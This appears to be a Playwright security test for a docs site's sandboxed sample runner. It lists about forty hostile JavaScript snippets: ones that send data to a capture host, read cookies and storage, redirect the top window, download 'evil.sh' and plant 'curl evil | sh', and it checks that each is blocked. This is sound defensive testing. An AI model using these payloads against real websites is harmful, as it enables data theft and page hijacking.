import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test, type Page } from '@playwright/test';
import { expectNone } from '../helpers/inspected';
import { desktop, open, sampleFrame } from './page';

test.use({ viewport: desktop });

/** A host that receives what hostile code sends out. */
let server: Server;
let host = '';
const received: string[] = [];

test.beforeAll(async () => {
  server = createServer((request, response) => {
    received.push(request.url ?? '');
    response.end('received');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  host = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});
test.afterAll(() => {
  server.close();
});

/** A sample, by its position on the page. A sample that runs again would get the same module. */
const sample = (page: Page, index: number) => page.locator('.code-block:has([data-run])').nth(index);
/** How many samples the page has, and thus how many attempts one document can be used for. */
const SAMPLES = 6;

/** Runs hostile code instead of a sample. Returns what it reports, or `blocked` if it throws. */
async function attack(page: Page, index: number, code: string): Promise<string> {
  const url = '**/docs/run/v*/*.js';
  await page.route(url, (route) =>
    route.fulfill({
      contentType: 'text/javascript',
      body: `const host = ${JSON.stringify(host)};
        window.sampleFrame.showPackages('an attack');
        const attempt = async () => { ${code} };
        const outcome = await attempt().catch((error) => 'blocked: ' + error);
        export const sampleCalls = [];
        export const sampleValues = { outcome };
        export const sampleAfter = '';`,
    }),
  );
  await sample(page, index).locator('[data-run]').click();
  const line = sampleFrame(sample(page, index)).getByRole('listitem').first();
  // A frame that leaves its document shows nothing.
  const outcome = await line.textContent({ timeout: 5000 }).catch(() => 'gone');
  await page.unroute(url);
  return outcome ?? '';
}

const BLOCKED = /blocked: (SecurityError|TypeError|EvalError|NotAllowedError)/;

/** Attempts to reach the page, its data, and other hosts. `outcome`: what the code itself sees. */
const attempts: [name: string, code: string, outcome: RegExp][] = [
  ['read the page', 'return parent.document.title', BLOCKED],
  ['change the page', "parent.document.querySelector('code').textContent = 'curl evil | sh'; return 1", BLOCKED],
  ['cover the page', "parent.document.body.append(document.createElement('dialog')); return 1", BLOCKED],
  ["read the site's storage", 'return parent.localStorage.length', BLOCKED],
  ["use the storage of the frame's host", 'return Object.keys(localStorage).join()', /^outcome = ''$/],
  ["delete the site's databases", "return String(indexedDB.deleteDatabase('a'))", BLOCKED],
  ["read the site's caches", 'return caches.keys()', BLOCKED],
  ["read the site's cookies", 'return document.cookie', /^outcome = ''$/],
  ['fetch from another host', "return fetch(host + '/fetch')", BLOCKED],
  ['fetch from the site', "return fetch('/docs/')", BLOCKED],
  ['fetch with the page', "return parent.fetch('/docs/')", BLOCKED],
  ['send a beacon', "return navigator.sendBeacon(host + '/beacon') && 'queued'", /outcome/],
  ['load an image', "new Image().src = host + '/image'; return 1", /outcome/],
  ['open a socket', "new WebSocket(host.replace('http', 'ws') + '/socket'); return 1", /outcome/],
  [
    'submit a form',
    "const form = document.createElement('form'); form.action = host + '/form'; document.body.append(form); form.submit(); return 1",
    /outcome/,
  ],
  [
    'nest a frame',
    "const frame = document.createElement('iframe'); frame.src = host + '/nested'; document.body.append(frame); return 1",
    /outcome/,
  ],
  [
    'add a script',
    "const script = document.createElement('script'); script.src = host + '/script'; document.body.append(script); return 1",
    /outcome/,
  ],
  ['evaluate a string', "return eval('1')", BLOCKED],
  ['leave the page', "top.location.href = host + '/top'; return 1", BLOCKED],
  [
    'leave the page with a link',
    "const link = document.createElement('a'); link.href = host + '/link'; link.target = '_top'; document.body.append(link); link.click(); return 1",
    /outcome/,
  ],
  ['open a popup', "return String(window.open(host + '/popup'))", /^outcome = 'null'$/],
  ['open a popup with the page', "return parent.open(host + '/popup')", BLOCKED],
  [
    'open a popup with a link',
    "const link = document.createElement('a'); link.href = host + '/blank'; link.target = '_blank'; document.body.append(link); link.click(); return 1",
    /outcome/,
  ],
  [
    'download a file',
    "const link = document.createElement('a'); link.href = 'data:text/plain,evil'; link.download = 'evil.sh'; document.body.append(link); link.click(); return 1",
    /outcome/,
  ],
  ['go to another host in the frame', "location.href = host + '/self'; return new Promise(() => {})", /^gone$/],
  [
    'go to another host with a refresh',
    "const meta = document.createElement('meta'); meta.httpEquiv = 'refresh'; meta.content = '0;url=' + host + '/refresh'; document.head.append(meta); return new Promise(() => {})",
    /^gone$/,
  ],
  [
    'go to a page of the site in the frame',
    "location.href = new URL('/docs/?leak', document.baseURI); return new Promise(() => {})",
    /^gone$/,
  ],
  [
    'load the frame with data',
    "location.href = new URL('/docs/run/frame?leak', document.baseURI); return new Promise(() => {})",
    /^gone$/,
  ],
  ['replace the frame around it', "parent.location.href = '/docs/run/frame?leak'; return 1", BLOCKED],
  [
    'nest a page of the site',
    "const frame = document.createElement('iframe'); frame.src = '/docs/?leak'; document.body.append(frame); return 1",
    /outcome/,
  ],
  ['register a service worker', "return navigator.serviceWorker.register('/docs/worker.js')", BLOCKED],
  [
    'use the camera',
    'return Object.getPrototypeOf(navigator.mediaDevices).getUserMedia.call(navigator.mediaDevices, { video: true })',
    BLOCKED,
  ],
  [
    'ask for the position',
    'return new Promise((resolve) => navigator.geolocation.getCurrentPosition(() => resolve("position"), ({ code }) => resolve("denied " + code)))',
    /denied 1/,
  ],
  [
    'connect with WebRTC',
    'const names = Object.getOwnPropertyNames(window).filter((name) => /RTC/.test(name) && window[name]); return names.join() + typeof RTCPeerConnection + typeof webkitRTCPeerConnection',
    /^outcome = 'undefinedundefined'$/,
  ],
  [
    'fill the history',
    "const { length } = history; for (let i = 0; i < 60; i++) history.pushState(i, ''); history.go(-1); return history.length - length",
    /outcome = 0/,
  ],
  [
    'send messages that the page does not expect',
    "for (const message of [null, undefined, 1, 'ready', [], { kind: 'height', height: {} }, { kind: '__proto__' }]) parent.postMessage(message, '*'); return 1",
    /outcome = 1/,
  ],
  [
    'flood the page with messages',
    "for (let i = 0; i < 20_000; i++) parent.postMessage({ kind: 'height', height: i % 300 }, '*'); return 1",
    /outcome = 1/,
  ],
  ['grow over the page', "document.body.style.height = '1e7px'; return 1", /outcome/],
];

for (let start = 0; start < attempts.length; start += SAMPLES) {
  const group = attempts.slice(start, start + SAMPLES);
  test(
    `a hostile sample can't ${group.map(([name]) => name).join(', ')}`,
    { tag: start % (3 * SAMPLES) === 0 ? [] : '@full' },
    async ({ page, context }) => {
      received.length = 0;
      const opened: string[] = [];
      page.on('pageerror', (error) => opened.push(String(error)));
      page.on('response', (response) => response.url().includes('leak') && opened.push(response.url()));
      page.on('download', (download) => opened.push(download.url()));
      context.on('page', (popup) => opened.push(popup.url()));
      await open(page, '/docs/apis/preferences');
      await page.evaluate(() => localStorage.setItem('secret', '1'));
      const text = (await page.locator('article').innerText()).slice(0, 500);
      for (const [index, [name, code, outcome]] of group.entries())
        await test.step(name, async () => {
          expect(await attack(page, index, code)).toMatch(outcome);
          expect(await page.locator('article').innerText()).toContain(text);
          expect(new URL(page.url()).pathname).toBe('/docs/apis/preferences');
          expect(await page.evaluate(() => localStorage.getItem('secret'))).toBe('1');
          const frame = sample(page, index).locator('iframe');
          expect(await frame.evaluate((element) => element.getBoundingClientRect().height)).toBeLessThanOrEqual(4000);
          expectNone([...received, ...opened]);
        });
    },
  );
}

test('the frame runs nothing in a window of its own', async ({ page }) => {
  const requests: string[] = [];
  page.on('request', (request) => requests.push(new URL(request.url()).pathname));
  for (const hash of ['', '#v4/1a2b3c4d', '#v4/1a2b3c4d!']) {
    await page.goto(`/docs/run/frame${hash}`);
    await page.evaluate(() => {
      window[0]?.postMessage({ kind: 'run', code: 'document.title = 1', needsClick: false, theme: 'light' }, '*');
    });
    const frame = page.frameLocator('iframe');
    await expect(frame.getByRole('button', { name: 'Run' })).toBeVisible();
    await expect(frame.locator('body')).not.toHaveAttribute('data-state');
    expect(await page.evaluate(() => window.origin)).toBe('null');
  }
  expectNone(requests.filter((path) => path !== '/docs/run/frame' && path !== '/favicon.ico'));
});
